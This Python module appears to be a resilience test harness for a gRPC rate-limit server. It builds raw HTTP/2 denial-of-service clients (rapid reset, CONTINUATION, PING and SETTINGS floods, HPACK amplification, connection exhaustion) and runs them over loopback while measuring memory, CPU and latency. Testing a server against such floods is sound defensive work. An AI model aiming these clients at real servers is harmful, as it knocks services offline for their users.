"""Hostile HTTP/2 clients for the gRPC listener, and a legitimate one that
measures what they leave for others.

Each attack is a function ``(port, token, deadline, stats)`` that runs in a
process of its own until ``deadline`` (``time.monotonic()``), reconnecting
whenever the server closes on it; it reports how often it connected and the
GOAWAY codes it was told. `measure` runs one against a `ratewarden serve`
process and samples the server's RSS and CPU and the latency of a check made
on a new connection every 20 ms meanwhile. The tests run each for a few
seconds; ``bench/bench_h2_attacks.py`` runs them for 15 s each and prints the
table of docs/reliability.md.

Loopback only, and every loop ends at its deadline.
"""

from __future__ import annotations

import contextlib
import multiprocessing
import os
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from ratewarden.server.h2._frames import PREFACE, frame, header_int, literal
from ratewarden.server.h2._grpc import TRAILERS_OK

RLS = b"/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit"
WATCH = b"/grpc.health.v1.Health/Watch"
REFLECT = b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONT = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def _len(value: bytes) -> bytes:
    """A string's length as HPACK writes it (no Huffman)."""
    return header_int(len(value), 7)


def request_block(path: bytes, token: bytes | None = None) -> bytes:
    """:method POST, :scheme http, :path, content-type, te: literals, no table."""
    block = (b"\x83\x86" + b"\x04" + _len(path) + path
             + b"\x0f\x10\x10application/grpc" + literal(b"te", b"trailers"))  # fmt: skip
    if token is not None:
        block += literal(b"authorization", b"Bearer " + token)
    return block


def message(payload: bytes) -> bytes:
    return struct.pack(">BI", 0, len(payload)) + payload


def _field(number: int, payload: bytes) -> bytes:
    return bytes((number << 3 | 2,)) + _len_varint(len(payload)) + payload


def _len_varint(n: int) -> bytes:
    out = bytearray()
    while n >= 128:
        out.append(n & 0x7F | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def rls_request(domain: bytes, key: bytes, value: bytes) -> bytes:
    """envoy.service.ratelimit.v3.RateLimitRequest: domain = 1, descriptors = 2
    (each: entries = 1, an entry: key = 1, value = 2)."""
    entry = _field(1, key) + _field(2, value)
    return _field(1, domain) + _field(2, _field(1, entry))


def settings(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


# -- the attacks --------------------------------------------------------------------


@dataclass
class Stats:
    connections: int = 0
    bytes_sent: int = 0
    goaway: dict[int, int] = field(default_factory=dict)


class _Conn:
    """A raw connection that reads (and drops) what the server says on a thread
    of its own, noting GOAWAY codes, unless ``read`` is False."""

    def __init__(self, port: int, stats: Stats, *, read: bool = True, first: bytes = b"") -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.stats = stats
        self.closed = threading.Event()
        stats.connections += 1
        self.send(PREFACE + settings() + first)
        if read:
            threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        buf = bytearray()
        try:
            while data := self.sock.recv(1 << 16):
                buf += data
                at = 0
                while len(buf) - at >= 9:
                    length = int.from_bytes(buf[at : at + 3], "big")
                    if len(buf) - at < 9 + length:
                        break
                    if buf[at + 3] == GOAWAY and length >= 8:
                        code = int.from_bytes(buf[at + 13 : at + 17], "big")
                        self.stats.goaway[code] = self.stats.goaway.get(code, 0) + 1
                    at += 9 + length
                del buf[:at]
        except OSError:
            pass
        self.closed.set()

    def send(self, data: bytes) -> bool:
        try:
            self.sock.sendall(data)
        except OSError:
            self.closed.set()
            return False
        self.stats.bytes_sent += len(data)
        return not self.closed.is_set()

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


Attack = Callable[[int, bytes, float, Stats], None]


def _repeat(build: Callable[[_Conn, int], bytes], *, read: bool = True,
            first: Callable[[], bytes] = bytes) -> Attack:  # fmt: skip
    """An attack that sends ``build(conn, round)`` again and again on a connection,
    and a new connection whenever the server closed the last one."""

    def attack(port: int, token: bytes, deadline: float, stats: Stats) -> None:
        while time.monotonic() < deadline:
            try:
                conn = _Conn(port, stats, read=read, first=first())
            except OSError:
                time.sleep(0.01)
                continue
            rounds = 0
            while time.monotonic() < deadline and conn.send(build(conn, rounds)):
                rounds += 1
            conn.close()

    return attack


def _streams(per_round: int) -> Iterator[int]:
    sid = 1
    while True:
        yield from range(sid, sid + 2 * per_round, 2)
        sid += 2 * per_round


def server_resets(token: bytes) -> Attack:
    """A stream opened, then made invalid (WINDOW_UPDATE of 0): the server resets it."""
    block = request_block(RLS, token)

    def build(conn: _Conn, n: int) -> bytes:
        base = 1 + n * 400
        return b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(WINDOW, 0, s, bytes(4))
                        for s in range(base, base + 400, 2))  # fmt: skip

    return _repeat(build)


def unauthenticated() -> Attack:
    """Calls without the token: each refused at once."""
    block = request_block(RLS)

    def build(conn: _Conn, n: int) -> bytes:
        base = 1 + n * 400
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block)
                        for s in range(base, base + 400, 2))  # fmt: skip

    return _repeat(build)


def empty_continuation() -> Attack:
    """A header block that never ends: empty CONTINUATION frames forever."""
    empty = frame(CONT, 0, 1, b"") * 2000
    return _repeat(lambda conn, n: empty,
                   first=lambda: frame(HEADERS, 0, 1, request_block(RLS)))  # fmt: skip


def empty_data() -> Attack:
    """A call whose body is empty DATA frames forever."""
    empty = frame(DATA, 0, 1, b"") * 2000
    return _repeat(lambda conn, n: empty,
                   first=lambda: frame(HEADERS, END_HEADERS, 1, request_block(RLS)))  # fmt: skip


def unknown_frames() -> Attack:
    junk = frame(0x42, 0, 0, b"") * 2000
    return _repeat(lambda conn, n: junk)


def priority_frames() -> Attack:
    prio = frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 2000
    return _repeat(lambda conn, n: prio)


def settings_window() -> Attack:
    """1,000 Health/Watch streams open (no token needed), then SETTINGS frames of
    2,730 INITIAL_WINDOW_SIZE entries each."""
    opened = b"".join(
        frame(HEADERS, END_HEADERS, s, request_block(WATCH)) + frame(DATA, 0, s, message(b""))
        for s in range(1, 2001, 2)
    )
    big = settings(*[(4, 65_535 + i % 2) for i in range(2730)])

    return _repeat(lambda conn, n: big * 4, first=lambda: opened)


def indexed_headers(token: bytes) -> Attack:
    """A 4 KB header put in the dynamic table once, then referenced 15 times in
    each of 1,000 streams' header blocks (each block a few dozen bytes)."""
    value = b"v" * 4000
    insert = b"\x40" + _len(b"x-big") + b"x-big" + _len(value) + value  # incremental indexing

    def build(conn: _Conn, n: int) -> bytes:
        if n == 0:
            return frame(HEADERS, END_HEADERS, 1, request_block(RLS, token) + insert)
        base = 1 + n * 200
        return b"".join(frame(HEADERS, END_HEADERS, s, request_block(RLS, token) + b"\xbe" * 15)
                        for s in range(base, base + 200, 2))  # fmt: skip

    return _repeat(build)


def big_header_values(token: bytes) -> Attack:
    """Streams whose header block carries a 60 KB value (HEADERS + CONTINUATIONs)."""
    value = b"v" * 60_000
    block = request_block(RLS, token) + literal(b"x-big", value)

    def build(conn: _Conn, n: int) -> bytes:
        s = 1 + 2 * n
        chunks = [block[i : i + 16_000] for i in range(0, len(block), 16_000)]
        out = frame(HEADERS, 0, s, chunks[0])
        for i, chunk in enumerate(chunks[1:], 1):
            out += frame(CONT, END_HEADERS if i == len(chunks) - 1 else 0, s, chunk)
        return out

    return _repeat(build)


def zero_window_reflection(token: bytes) -> Attack:
    """Stream windows of 0 (answers cannot be sent), and reflection requests on
    many streams as fast as the server takes them."""
    request = message(_field(7, b"grpc.health.v1.Health"))  # list_services is field 7
    block = request_block(REFLECT, token)

    def build(conn: _Conn, n: int) -> bytes:
        s = 1 + 2 * (n % 500)
        head = frame(HEADERS, END_HEADERS, s, block) if n < 500 else b""
        return head + frame(DATA, 0, s, request * 200)

    return _repeat(build, first=lambda: settings((4, 0)))


def ping_flood() -> Attack:
    """PINGs from a client that never reads the acknowledgements."""
    pings = frame(PING, 0, 0, bytes(8)) * 2000
    return _repeat(lambda conn, n: pings, read=False)


def settings_flood() -> Attack:
    empty = settings() * 2000
    return _repeat(lambda conn, n: empty, read=False)


def rapid_reset(token: bytes) -> Attack:
    block = request_block(RLS, token)

    def build(conn: _Conn, n: int) -> bytes:
        base = 1 + n * 400
        return b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(RST, 0, s, b"\0\0\0\x08")
                        for s in range(base, base + 400, 2))  # fmt: skip

    return _repeat(build)


def unfinished_headers() -> Attack:
    """Connections that start a header block and never finish it."""

    def attack(port: int, token: bytes, deadline: float, stats: Stats) -> None:
        held: list[_Conn] = []
        while time.monotonic() < deadline:
            with contextlib.suppress(OSError):
                held.append(_Conn(port, stats, first=frame(HEADERS, 0, 1, b"\x83")))
            held = [c for c in held if not c.closed.is_set()]
            time.sleep(0.01)
        for conn in held:
            conn.close()

    return attack


def idle_connections() -> Attack:
    """As many idle connections as the server lets us open (up to 3,000)."""

    def attack(port: int, token: bytes, deadline: float, stats: Stats) -> None:
        held: list[socket.socket] = []
        while time.monotonic() < deadline:
            if len(held) < 3000:
                try:
                    sock = socket.create_connection(("127.0.0.1", port), timeout=1)
                    sock.sendall(PREFACE + settings())
                    held.append(sock)
                    stats.connections += 1
                except OSError:
                    time.sleep(0.01)
            else:
                time.sleep(0.05)
        for sock in held:
            sock.close()

    return attack


def attacks(token: bytes) -> dict[str, Attack]:
    return {
        "server-resets": server_resets(token),
        "unauthenticated": unauthenticated(),
        "empty-continuation": empty_continuation(),
        "empty-data": empty_data(),
        "unknown-frames": unknown_frames(),
        "priority-frames": priority_frames(),
        "settings-window": settings_window(),
        "indexed-headers": indexed_headers(token),
        "big-header-values": big_header_values(token),
        "zero-window-reflection": zero_window_reflection(token),
        "ping-flood": ping_flood(),
        "settings-flood": settings_flood(),
        "rapid-reset": rapid_reset(token),
        "unfinished-headers": unfinished_headers(),
        "idle-connections": idle_connections(),
    }


# -- measuring ------------------------------------------------------------------------


def legit_check(port: int, token: bytes, request: bytes) -> float:
    """One ShouldRateLimit call on a new connection: seconds until its trailers."""
    start = time.perf_counter()
    with socket.create_connection(("127.0.0.1", port), timeout=2) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        head = frame(HEADERS, END_HEADERS, 1, request_block(RLS, token))
        sock.sendall(PREFACE + settings() + head + frame(DATA, END_STREAM, 1, message(request)))
        buf = b""
        while True:
            data = sock.recv(1 << 16)
            if not data:
                raise ConnectionError("closed before the answer")
            buf += data
            at = 0
            while at + 9 <= len(buf):
                length = int.from_bytes(buf[at : at + 3], "big")
                kind, flags = buf[at + 3], buf[at + 4]
                sid = int.from_bytes(buf[at + 5 : at + 9], "big")
                if at + 9 + length > len(buf):
                    break
                if kind == HEADERS and flags & END_STREAM and sid == 1:
                    if TRAILERS_OK not in buf[at + 9 : at + 9 + length]:
                        raise ConnectionError(f"not OK: {buf[at + 9 : at + 9 + length]!r}")
                    return time.perf_counter() - start
                at += 9 + length


def rss(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmRSS")


def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


@dataclass
class Result:
    name: str
    seconds: float
    idle_rss: int
    peak_rss: int
    after_rss: int
    cpu: float  # the server's CPU, share of one core, during the attack
    checks: int
    failed: int
    p50: float
    p99: float
    worst: float
    connections: int
    goaway: dict[int, int]

    @property
    def passed(self) -> bool:
        return self.failed == 0 and self.p99 <= 0.050 and self.peak_rss - self.idle_rss <= 100 << 20

    def row(self) -> str:
        mib = 1 << 20
        codes = ", ".join(f"{code:#x}x{n}" for code, n in sorted(self.goaway.items())) or "-"
        return (f"| {self.name} | {self.seconds:.0f} s | {self.idle_rss / mib:.0f} -> "
                f"{self.peak_rss / mib:.0f} -> {self.after_rss / mib:.0f} MiB | "
                f"{self.cpu:.0%} | {self.checks} checks, p50 {self.p50 * 1e3:.1f} ms, "
                f"p99 {self.p99 * 1e3:.1f} ms, max {self.worst * 1e3:.1f} ms, "
                f"{self.failed} failed | {self.connections} connections, GOAWAY {codes} | "
                f"{'pass' if self.passed else 'FAIL'} |")  # fmt: skip


def _run(attack: Attack, port: int, token: bytes, deadline: float, out: Any) -> None:
    # The attacker shares the machine's cores with the server and the
    # legitimate client; at a lower priority it stands in for a client elsewhere
    # whose only way in is the connection, and still sends as fast as it can.
    os.nice(10)
    stats = Stats()
    attack(port, token, deadline, stats)
    out.put((stats.connections, stats.goaway))


def measure(name: str, attack: Attack, pid: int, port: int, token: bytes, *,
            seconds: float, request: bytes, settle: float = 6.0) -> Result:  # fmt: skip
    """Runs ``attack`` in a process of its own for ``seconds`` against the server
    ``pid`` listening on ``port``, with a legitimate check every 20 ms."""
    for _ in range(5):  # warm: the connection path and the store
        legit_check(port, token, request)
    time.sleep(0.2)
    idle = rss(pid)
    context = multiprocessing.get_context("fork")
    queue = context.Queue()
    start = time.monotonic()
    process = context.Process(target=_run, args=(attack, port, token, start + seconds, queue))
    cpu0 = cpu_seconds(pid)
    process.start()
    latencies: list[float] = []
    failed = 0
    peak = idle
    while time.monotonic() < start + seconds:
        tick = time.monotonic()
        try:
            latencies.append(legit_check(port, token, request))
        except (OSError, ConnectionError):
            failed += 1
        peak = max(peak, rss(pid))
        time.sleep(max(0.0, 0.02 - (time.monotonic() - tick)))
    cpu = (cpu_seconds(pid) - cpu0) / (time.monotonic() - start)
    connections, goaway = queue.get(timeout=30)
    process.join(30)
    if process.is_alive():
        process.kill()
    time.sleep(settle)  # the listener hands freed memory back at most every 5 s
    latencies.sort()

    def pick(p: float) -> float:
        return latencies[min(len(latencies) - 1, int(p * len(latencies)))]

    return Result(name, seconds, idle, peak, rss(pid), cpu, len(latencies), failed,
                  pick(0.5), pick(0.99), latencies[-1], connections, goaway)  # fmt: skip
